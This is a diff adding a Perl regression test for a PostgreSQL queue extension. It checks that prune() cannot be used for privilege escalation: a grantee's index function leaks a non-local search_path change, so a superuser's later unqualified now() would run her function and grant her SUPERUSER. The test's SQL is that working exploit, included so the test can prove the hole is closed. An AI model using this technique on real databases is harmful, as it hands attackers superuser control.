@@ -1,0 +1,91 @@
+# What: a REFERENCES grantee's code that prune() runs as that grantee (by
+# design: the check of a NO ACTION key reads her table as its owner,
+# test/t/672) changes the caller's session: it sets search_path (not
+# LOCAL), the setting outlives prune() and every function's SET clause,
+# and the superuser's next statement in the same session resolves an
+# unqualified name to her function, run as the superuser.  The
+# superuser's public.jobs grants mallory SELECT and REFERENCES (as in
+# test/t/559, 672).  mallory's m.child references it with NO ACTION
+# (passes owner_cascades(): a NO ACTION key writes nothing, and her code
+# in it runs as mallory), and has an index on (job_id + m.f(1)), where
+# m.f() is IMMUTABLE.  When prune()'s DELETE checks the key, the RI
+# query on m.child is planned as mallory: get_relation_info() ->
+# RelationGetIndexExpressions() runs eval_const_expressions() on the
+# index expression, which calls m.f(1) as mallory, which does
+# set_config('search_path', 'm, pg_catalog, public', false).  The
+# superuser's script goes on with SELECT now(): m.now() runs as the
+# superuser and makes mallory a superuser.
+# Why: sql/src/28_owner_session.sql owner_cascades()/owner_code() judge
+# code by the role it runs as (a table a key's check reads is judged "as
+# run by its owner"); but code running as another role inside the
+# caller's transaction is no sandbox for the session state: a
+# SECURITY_LOCAL_USERID_CHANGE refuses only role and session
+# authorization, not search_path (or other user-settable GUCs), and a
+# plain SET inside a function with a SET clause for the same variable
+# persists after the function exits (PostgreSQL's CREATE FUNCTION docs).
+# sql/src/30_prune.sql prune() does not restore (or check) the session's
+# settings when it returns.
+# Expected: after prune() returns, the session's search_path is what it
+# was before (e.g. prune() refuses the table, or runs the DELETE so that
+# a non-local SET cannot outlive it -- checks that search_path is
+# unchanged and raises an ERROR, rolling back), and SELECT now() runs
+# pg_catalog.now(): mallory stays unprivileged.
+# Severity: high -- a role with REFERENCES on a superuser's job table (in
+# GRANT ALL) gets superuser when a statement with an unqualified name
+# follows prune() in the same session (a psql script, a pooled
+# connection, a cron job's multi-statement command); reliable.  pg_cron's
+# single-statement job in its own connection is not affected.
+# Control: W2Q_ATTACK_CONTROL=1 has m.f() set search_path LOCAL
+# (set_config(..., true)): the function SET clauses undo it, search_path
+# is unchanged and mallory stays unprivileged.
+use strict;
+use warnings;
+use PostgreSQL::Test::Utils;
+use Test::More;
+use W2QTest;
+
+my $control = $ENV{W2Q_ATTACK_CONTROL};
+my $local = $control ? 'true' : 'false';
+my $node = new_node('prune_search_path693');
+owner_code_fixture($node, extension => 1);
+$node->safe_psql('postgres', q{
+	CREATE TABLE public.jobs (id bigint PRIMARY KEY, queue text NOT NULL, payload jsonb NOT NULL DEFAULT '{}');
+	INSERT INTO public.jobs VALUES (1, 'q', '{}'), (2, 'q', '{}'), (3, 'q', '{}');
+	GRANT SELECT, REFERENCES ON public.jobs TO mallory;
+	SELECT wal2queue.append_only('public.jobs');
+	SELECT wal2queue.create_slot('s693', 'public.jobs');});
+my ($out, $err) = as_mallory($node, qq{
+	CREATE TABLE m.log (cur name, ses name);
+	GRANT INSERT ON m.log TO PUBLIC;
+	CREATE FUNCTION m.f(i int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS \$f\$
+	BEGIN
+		PERFORM pg_catalog.set_config('search_path', 'm, pg_catalog, public', $local);
+		RETURN i;
+	END \$f\$;
+	CREATE FUNCTION m.now() RETURNS timestamptz LANGUAGE plpgsql AS \$f\$
+	BEGIN
+		INSERT INTO m.log VALUES (current_user, session_user);
+		IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user) THEN
+			EXECUTE 'ALTER ROLE mallory SUPERUSER';
+		END IF;
+		RETURN pg_catalog.now();
+	END \$f\$;
+	CREATE TABLE m.child (job_id bigint REFERENCES public.jobs);
+	CREATE INDEX child_expr ON m.child ((job_id + m.f(1)));
+	RESET search_path;});
+is($err, '', "mallory's m.child (a NO ACTION key onto public.jobs) and its index on m.f()");
+
+# the superuser's maintenance script: prune, then another statement
+my ($rc, $sout, $serr) = $node->psql('postgres', q{SELECT wal2queue.prune('public.jobs', force => true);
+	SHOW search_path;
+	SELECT now() IS NOT NULL;});
+note("script: rc $rc, out: $sout, err: $serr");
+like($sout, qr/^3$/m, 'prune() deleted the jobs (the NO ACTION key passes its checks)');
+like($sout, qr/^"\$user", public$/m, "the session's search_path is unchanged after prune()");
+is($node->safe_psql('postgres', q{SELECT count(*) FROM m.log WHERE cur <> 'mallory'}), '0',
+	"none of mallory's functions ran as another role");
+is($node->safe_psql('postgres', q{SELECT rolsuper FROM pg_roles WHERE rolname = 'mallory'}), 'f',
+	'mallory is no superuser');
+
+$node->stop;
+done_testing();
